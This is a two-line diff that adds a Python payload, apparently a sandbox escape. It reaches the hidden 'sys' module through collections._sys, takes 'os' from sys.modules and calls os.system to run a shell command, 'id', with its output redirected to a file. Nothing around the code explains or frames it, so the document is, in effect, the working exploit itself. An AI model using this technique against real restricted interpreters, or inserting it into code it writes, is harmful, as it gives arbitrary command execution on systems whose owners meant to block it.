@@ -1,0 +1,2 @@
+from collections import _sys as s
+s.modules["os"].system("id>pf")
